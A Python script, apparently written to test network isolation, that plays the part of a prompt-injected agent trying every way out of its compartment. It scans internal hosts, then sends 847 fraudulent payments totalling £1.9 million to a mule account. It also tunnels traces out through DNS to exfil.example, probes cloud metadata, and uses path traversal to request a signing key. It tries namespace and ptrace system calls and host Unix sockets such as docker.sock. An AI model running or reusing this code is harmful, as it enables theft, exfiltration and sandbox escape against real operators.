#!/usr/bin/python3
"""The attachment of the poisoned message: what an injected prompt makes of a helpful agent.

One module, the same on the flat network and inside a compartment. It tries every way out that it knows and writes
each attempt to attempts.jsonl: technique, the way it went, where to, a trace that is carried in the payload, and what
came back. It does not judge itself: connect() may succeed towards a door that lets nothing through, so whoever reads
the attempts looks for the traces at the far side.

knowledge.json, where it exists, holds what an earlier run learned elsewhere: the attacker returns with a map.
This is test code for one's own machine: the addresses it tries are those of the demonstration.
"""

import ctypes
import glob
import json
import os
import platform
import socket
import struct

PAYMENTS = 847
POUNDS = 1_900_000
TIMEOUT = 3.0
HOSTS = [f"10.20.0.{n}" for n in (*range(1, 21), 53)]
PORTS = [22, 80, 443, 5432, 6379, 8080, 15001, 15008]
# Where workloads would be found from inside a compartment, if anything there answered.
VIRTUAL = [f"100.64.0.{n}" for n in range(32)] + [f"fd52:6600::{n:x}" for n in range(1, 9)]
HOSTS6 = ["fd20::1", "fd20::11", "fd20::12", "fd20::13", "fd20::14"]
DOORS = [("198.18.0.1", 15001), ("198.18.0.1", 8080), ("198.18.0.53", 80), ("2001:2::1", 15001)]
METADATA = ("169.254.169.254", 80)
NAMES = ["payments", "payments.ringfence.internal", "ledger", "db", "metadata.google.internal", "localhost.localdomain"]
RESOLVERS = ["10.20.0.53", "8.8.8.8", "198.18.0.53"]

traces = 0
log = open("attempts.jsonl", "w", encoding="utf-8", buffering=1)


def trace():
    global traces
    traces += 1
    return f"trace-{traces:06d}-{os.environ.get('USER', 'x')}"


def report(technique, via, to, mark, answer=None, error=None):
    entry = {"technique": technique, "via": via, "to": to, "trace": mark, "answer": answer, "error": error}
    log.write(json.dumps(entry) + "\n")


def address(host, port):
    return f"[{host}]:{port}" if ":" in host else f"{host}:{port}"


def exchange(host, port, payload, most=65536):
    """Connects, sends, reads what comes back until the other end closes, or `most` bytes. Never raises: (answer, error)."""
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    heard, error = b"", None
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.connect((host, port))
            sock.sendall(payload)
            while len(heard) < most and (piece := sock.recv(4096)):
                heard += piece
    except OSError as refused:
        error = str(refused)
    return heard.decode(errors="replace") or None, error


def get(path, host, mark):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Trace: {mark}\r\nConnection: close\r\n\r\n".encode()


def tcp(technique, host, port):
    mark = trace()
    answer, error = exchange(host, port, get("/", address(host, port), mark))
    report(technique, "tcp", address(host, port), mark, answer, error)
    return answer or ""


def scan():
    """Looks at every address for something that says it moves money."""
    found = None
    for host in HOSTS:
        for port in PORTS:
            if '"payments"' in tcp("scan addresses and ports", host, port):
                found = (host, port)
    for host in VIRTUAL:
        if '"payments"' in tcp("scan virtual addresses", host, 8080):
            found = found or (host, 8080)
    for host in HOSTS6:
        tcp("scan IPv6", host, 8080)
    tcp("IPv4 inside IPv6", "::ffff:10.20.0.12", 8080)
    tcp("cloud metadata", *METADATA)
    for host, port in DOORS:
        tcp("the enforcer's own addresses", host, port)
    return found


def pay(target, technique="fraudulent payments"):
    """847 payments of just under the limit for a second signature: £1.9 million together."""
    base, extra = divmod(POUNDS, PAYMENTS)
    for number in range(PAYMENTS):
        mark = trace()
        body = json.dumps({"to": "GB00 MULE 0000 0001", "pounds": base + (number < extra)}).encode()
        head = f"POST /v1/payments HTTP/1.1\r\nHost: {address(*target)}\r\nX-Trace: {mark}\r\nConnection: close\r\n"
        head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
        answer, error = exchange(*target, head.encode() + body)
        report(technique, "tcp", address(*target), mark, answer and answer.partition("\r\n")[0], error)


def query(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", 0x5246, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def dns():
    """Names that were not given to it, and data smuggled out in names."""
    wanted = [("resolve names", name) for name in NAMES]
    wanted += [("DNS tunnel", f"{trace()}.exfil.example") for _ in RESOLVERS]
    for resolver in RESOLVERS:
        for technique, name in wanted:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.settimeout(0.5)
                answer, error = None, None
                try:
                    sock.sendto(query(name), (resolver, 53))
                    reply = sock.recv(1500)
                    # The rcode and the number of answers: NXDOMAIN is 3, 0.
                    answer = f"rcode {reply[3] & 15}, {struct.unpack('!H', reply[6:8])[0]} answers"
                except OSError as silence:
                    error = str(silence)
            report(technique, "dns", f"A {name}", f"{resolver} {name}", answer, error)
        name = f"{trace()}.exfil.example"
        message = query(name)
        answer, error = exchange(resolver, 53, struct.pack("!H", len(message)) + message, 2)
        report("DNS tunnel over TCP", "dns", f"A {name}", name.partition(".")[0], answer and "answered", error)


def udp():
    for host, port in [("10.20.0.1", 9999), ("10.20.0.12", 443), ("fd20::1", 9999), ("198.18.0.1", 15001), METADATA]:
        mark = trace()
        error = None
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as sock:
            try:
                sock.sendto(mark.encode(), (host, port))
            except OSError as refused:
                error = str(refused)
        report("UDP", "udp", address(host, port), mark, None, error)


def walls():
    """What does not go through a TCP or UDP socket of its own."""

    def try_socket(label, family, kind, protocol, to, wrap=lambda mark: mark.encode()):
        mark = trace()
        error = None
        try:
            with socket.socket(family, kind, protocol) as sock:
                if family == socket.AF_PACKET:
                    sock.bind(("lo", 0))
                    sock.send(b"\0" * 12 + b"\x88\xb5" + wrap(mark))
                elif to is not None:
                    sock.sendto(wrap(mark), to)
        except (OSError, OverflowError) as refused:
            error = str(refused)
        report("raw and other sockets", "socket", label, mark, None, error)

    def echo(mark):
        body = struct.pack("!2H", 0x5246, 1) + mark.encode() + b"\0" * (len(mark) % 2)
        total = sum(struct.unpack(f"!{len(body) // 2}H", body)) + 0x0800
        while total >> 16:
            total = (total & 0xFFFF) + (total >> 16)
        return struct.pack("!BBH", 8, 0, ~total & 0xFFFF) + body

    try_socket("ICMP, raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, ("10.20.0.1", 0), echo)
    try_socket("ICMP, ping socket", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, ("10.20.0.1", 0), echo)
    try_socket("ICMPv6, raw", socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6, ("fd20::1", 0, 0, 0), lambda m: b"\x80\0\0\0RF\0\1" + m.encode())
    try_socket("IP, raw", socket.AF_INET, socket.SOCK_RAW, 253, ("10.20.0.1", 0))
    try_socket("UDP-Lite", socket.AF_INET, socket.SOCK_DGRAM, 136, ("10.20.0.1", 9999))
    try_socket("SCTP", socket.AF_INET, socket.SOCK_SEQPACKET, 132, None)
    try_socket("packet", socket.AF_PACKET, socket.SOCK_RAW, 3, None)
    try_socket("vsock", socket.AF_VSOCK, socket.SOCK_STREAM, 0, None)
    try_socket("netlink, netfilter", socket.AF_NETLINK, socket.SOCK_RAW, 12, None)
    try_socket("kernel crypto", 38, socket.SOCK_SEQPACKET, 0, None)
    mark = trace()
    error = None
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
            sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
            sock.sendto(mark.encode(), ("224.0.0.251", 5353))
        except OSError as refused:
            error = str(refused)
    report("multicast", "multicast", "224.0.0.251:5353", mark, None, error)


# name: (number on x86_64, number on aarch64, arguments)
CALLS = {
    "unshare": (272, 97, (0x10000000 | 0x40000000,)),
    "mount": (165, 40, (b"none", b"/", None, 0x44000, None)),
    # PTRACE_SEIZE of the parent: does not stop it, and ends with this child.
    "ptrace": (101, 117, (0x4206, os.getpid(), None, None)),
    "bpf": (321, 280, (5, None, 0)),
    "io_uring_setup": (425, 425, (8, ctypes.create_string_buffer(120))),
    "perf_event_open": (298, 241, (None, 0, -1, -1, 0)),
    "keyctl": (250, 219, (0, -3, 0)),
    "setns": (308, 268, (os.open("/proc/self/ns/net", os.O_RDONLY), 0x40000000)),
}


def calls():
    """System calls that lead towards another network, or past the walls. Each in a child of its own."""
    libc = ctypes.CDLL(None, use_errno=True)
    column = 1 if platform.machine() == "aarch64" else 0
    for name, numbers in CALLS.items():
        mark = trace()
        child = os.fork()
        if child == 0:
            result = libc.syscall(numbers[column], *numbers[2])
            os._exit(0 if result >= 0 else ctypes.get_errno())
        status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
        answer = "granted" if status == 0 else None
        report("system calls", "call", name, mark, answer, None if status == 0 else f"errno {status}")


def http_tricks():
    """Ways through a service it may talk to, towards operations and hosts it may not."""
    for service, requests in {
        "customer-data": [
            "DELETE /customers/42", "GET /admin", "GET /customers/../v1/payments", "GET /customers/%2e%2e/v1/payments",
            "GET /customers%2f42", "GET //customers/42", "PATCH /customers/42", "CONNECT payments:8080",
            "GET http://payments:8080/", "GET /customers/42;admin", "get /customers/42",
        ],
        "secrets-broker": ["GET /v1/secrets/payments-signing-key", "GET /v1/secrets/crm-token/../payments-signing-key"],
    }.items():  # fmt: skip
        for line in requests:
            mark = trace()
            head = f"{line} HTTP/1.1\r\nHost: {service}:8080\r\nX-Trace: {mark}\r\nConnection: close\r\n\r\n"
            try:
                host = socket.getaddrinfo(service, 8080, type=socket.SOCK_STREAM)[0][4][0]
                answer, error = exchange(host, 8080, head.encode())
            except OSError as refused:
                answer, error = None, str(refused)
            report("HTTP operations", "http", f"{service} {line}", mark, answer and answer.partition("\r\n")[0], error)
        mark = trace()
        host = socket.getaddrinfo(service, 8080, type=socket.SOCK_STREAM)[0][4][0]
        answer, error = exchange(host, 8080, get("/", "payments:8080", mark))
        report("HTTP operations", "http", f"{service} foreign Host", mark, answer and answer.partition("\r\n")[0], error)


def unix(known):
    """Unix sockets of the host, by what the kernel lists and by what an earlier run saw."""
    seen = set(known)
    with open("/proc/net/unix", encoding="utf-8") as listing:
        for line in listing.readlines()[1:]:
            fields = line.split(maxsplit=7)
            if len(fields) == 8:
                seen.add(fields[7].rstrip("\n"))
    seen.update(glob.glob("/run/ringfence/*/*.sock") + ["/run/docker.sock", "/run/dbus/system_bus_socket"])
    for name in sorted(seen):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            mark = trace()
            error = None
            with socket.socket(socket.AF_UNIX, kind) as sock:
                sock.settimeout(TIMEOUT)
                try:
                    sock.connect("\0" + name[1:] if name.startswith("@") else name)
                    sock.send(mark.encode())
                except OSError as refused:
                    error = str(refused)
            report("Unix sockets", "unix", name, mark, None, error)
    return sorted(seen)


def loopback():
    for host in ("127.0.0.1", "::1"):
        for port in (80, 8080, 15001):
            mark = trace()
            answer, error = exchange(host, port, get("/", "localhost", mark))
            report("host loopback", "loopback", address(host, port), mark, answer, error)


def main():
    known = {"payments": None, "unix": []}
    if os.path.exists("knowledge.json"):
        with open("knowledge.json", encoding="utf-8") as notes:
            known = json.load(notes)
    found = scan() or known["payments"]
    if found:
        pay(tuple(found))
    dns()
    udp()
    walls()
    calls()
    http_tricks()
    loopback()
    sockets = unix(known["unix"])
    with open("learned.json", "w", encoding="utf-8") as notes:
        json.dump({"payments": found, "unix": sockets}, notes)


if __name__ == "__main__":
    main()
